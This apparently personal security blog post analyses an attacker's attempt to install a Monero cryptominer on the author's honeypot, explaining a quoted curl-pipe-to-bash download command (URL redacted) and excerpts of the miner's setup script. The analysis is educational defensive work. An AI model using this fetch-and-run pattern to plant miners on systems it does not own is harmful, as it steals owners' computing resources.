Playing with honeypots: part 4

Looking at a different attack on the honeypot I investigate an attempt to deploy a crypto currency miner.

Playing with honeypots: part 4

Earlier in this series I covered what a honeypot was, how the honeypot was built and then some of the attacks that were carried out against my honeypot.  In this post we're going to look at a second attack, where the attacker attempted to install a cryptominer.

What's a cryptominer?

Unlike traditional money, where a physical coin or note is backed by another form of wealth (e.g. gold), a crypto currency exists purely as a digital concept.  Despite the media coverage, showing shiny BitCoins stacked up, there's no physical token to represent a crypto currency.  Instead the currency, for example BitCoin or Stellar Lumens, exist as an entry in a digital ledger known as the blockchain.  Crypto currencies are also anonymous so can be a good way to make payments you need to stay under the radar[1].

To generate crypto currency a miner is used - simply a program that solves mathematical problems.  Many different crypto currencies exist, each with different limits and processes.

As you can appreciate, crypto currency is a complex subject, and I'm no expert.  Wikipedia has an article on it and sites such as Coinbase [2] allow you to learn about crypto while earning it.

Why install a miner?Due to the complexity of these mathematical problems it can take a very long time to generate a new "coin", and running a computer uses electricity.  Electricity costs money so, ideally, you want to use as little of the electricity you pay for as possible.  In the past we've seen JavaScript (a programming language) based cryptominers injected into web pages allowing the controller to slowly generate coins usingother people's computer processing power.  Indeed it was suggested that if people don't want to allow adverts, perhaps in-browser cryptominers was a viable alternative.  Attackers breaking into websites and planting miners is known as cryptojacking and Troy Hunt writes on his blog about how he now owns the Coinhive domain (for good purposes).

By installing a miner on my honeypot, the attacker would have been able to gaincryptocurrency at my cost - a significant win for them.

How did the miner arrive?

After first logging in to the honeypot the attacker used curl to download a script that would set up the miner.  The script itself was hosted on GitHub, a well known and popular source code version control service - unlikely to be blocked unlike perhaps a less reputable site.  I've redacted some detail below, but this gives you an idea of how the attacker made this happen:

curl -s -L | bash -s 47v9mKikPcC...XQVL

Looking at the above excerpt there's two commands.  I've talkedabout curl before and there's two "arguments" that change how curl operates.  -s means to run silently, not showing any summaries, progress bars or errors, while -L means to follow redirects if the file was moved.  After the curl command there's a pipe, | , which means to pass the result of the command on its left (the download) to the command on its right, bash.

Running the script was done with bash and there's two arguments, -s and a string starting 47v9m.  Positional arguments are passed to the script in the order they come after -s and I'll explain what the 47v9m is shortly.

What is the script like?

I'm not going to reproduce the script here as I don't want to help spread the code, but I did pull down a copy and take a look.  My first observation is that this script is well written.  There's clear versioning going on (this copy is version 2.10) which makes sense given this was hosted on GitHub.  Checks are also made for required arguments:

# command linearguments
EMAIL=$2 # this one is optional

# checking prerequisites

if [ -z $WALLET ]; then
  echo "Script usage:"
  echo "> <wallet address> [<your email address>]"
  echo "ERROR: Please specify your wallet address"
  exit 1

Lines starting with a hash are comments, and this script has lots of comments to help step the user through what is what.  The lines WALLET=$1 and EMAIL=$2 take positional argumentsand give them variable names.  Based on the log entry, we can see the crypto currency wallet is 47v9mKikPcC...XQVL which was passed to bash.  There's no email specified but, as the comment says, this is optional.

Looking at the if statement, the script checks if $WALLET has been defined - if it hasn't then the script exits with a message telling you how to use it properly.  This is a common behaviour with command line tools, so is quite a nicetouch.

Further down in the script we can see checks are made for various command line tools, lscpu and curl among them, and exits with a message that these are required if they're not found.  You may find it odd that curl is checked for, but there's no reason that this script must have been downloaded with curl - it could have arrived on the system another way.

Assuming all the checks pass, the script installs the miner software in the user's home directory and then configures a system service so the miner is started automatically on boot.  The user also gets told the estimated mining rate.  It's also possible to limit the CPU usage of the miner, potentially reducing the likelihood of detection.

As I said, this script is quite well written!

Which crypto currency is being mined?

It's not until further down the script, line 139, that we find out which crypto currency is being mined - in this case Monero.  Further down again the script writes its intentions on the screen (not that there would have been a person to read it) via the echo command.

echo "I will download, setup and run in background Monero CPU miner."
echo "If needed, miner in foreground can be started by $HOME/c3pool/ script."
echo "Mining will happen to $WALLET wallet."

What is the wallet's balance?

Unfortunately I cannot tell the wallet's Monero balance because that information is protected.  This isn't always the case with crpyto currencies, which rely on anonymity only - if you don't know who owns the wallet, why does it matter if you know the balance?  Monero has taken the view you shouldn't be able to see the wallet balance, and attempting to do so gets you this:Screenshot of the Monero Blocks website: "Uh-oh, for a moment there it seemed that you were trying to peek into this Monero address.  No? really looks like you were, like, trying to check out this dude's balance.  Well, Monero says no!

Further reading on the Monero about page lists privacy as one of the currency's core values, so I guess the road ends there or at least that's as far as I'm prepared to take it.


For a long time the cyber security industry warned people to lookout for typos and poor grammar in emails as an indicator of a scam.  Similarly, malicious code could be really poorly written.  There's been a real change in recent years and, while the spelling mistakes and poor code still happen, "good quality" malicious artefacts exist.  I say "goodquality" in inverted commas here because it'd be much better if the attacker used their skills for good, but the fact remains there's clearly quality control going into the work.

Banner image: Banner image: MIELE by dordy on (modified) with an added Azure virtual machine logo, Bad Bug by ericlemerdy and gold coins by ArtFavor.

[1] There are legitimate reasons for this, perhaps needingto purchase legal services in a repressive environment.  That said, cryptocurrency is also used for criminal purposes.

[2] I am not affiliated to Coinbase, nor am I recommendingthem specifically.  Imerely know they exist.